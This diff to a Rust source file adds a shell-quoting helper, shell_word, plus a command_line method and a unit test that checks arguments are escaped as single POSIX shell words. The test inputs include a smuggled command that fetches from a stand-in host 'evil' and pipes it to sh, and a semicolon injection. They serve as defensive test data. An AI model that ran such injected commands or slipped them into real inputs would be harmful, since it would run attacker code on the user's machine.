@@ -116,10 +116,24 @@ pub struct CatchTest {
 }
 
 impl CatchTest {
+    /// The command as a line for a shell: whatever a repository names its folders, each argument is one word of it.
+    pub fn command_line(&self) -> String {
+        self.command.iter().map(|argument| shell_word(argument)).collect::<Vec<_>>().join(" ")
+    }
+
     /// What a Markdown fence around the code is marked with.
     pub fn fence_language(&self) -> &'static str {
         if self.framework == "pytest" { "python" } else { "" }
     }
+}
+
+/// An argument as one word of a POSIX shell.
+fn shell_word(argument: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_-./=:,@%+".contains(c);
+    if !argument.is_empty() && argument.chars().all(plain) {
+        return argument.to_owned();
+    }
+    format!("'{}'", argument.replace('\'', "'\\''"))
 }
 
 /// Runs on one side.
@@ -396,5 +410,27 @@ impl Report {
     /// The hardenings, best first.
     pub fn hardenings(&self) -> impl Iterator<Item = &Catch> {
         self.catches.iter().filter(|c| c.kind == CatchKind::Hardening)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::shell_word;
+
+    #[test]
+    fn an_argument_is_one_word_of_a_shell_whatever_it_holds() {
+        for plain in ["python", "-m", "tests/test_x.py", "a=b", "pythonpath=src"] {
+            assert_eq!(shell_word(plain), plain);
+        }
+        for (argument, word) in [
+            ("", "''"),
+            ("pythonpath=src lib", "'pythonpath=src lib'"),
+            ("tests/$(curl evil|sh)/test_x.py", "'tests/$(curl evil|sh)/test_x.py'"),
+            ("a'b;c", "'a'\\''b;c'"),
+            ("~/x", "'~/x'"),
+            ("{a,b}", "'{a,b}'"),
+        ] {
+            assert_eq!(shell_word(argument), word);
+        }
     }
 }
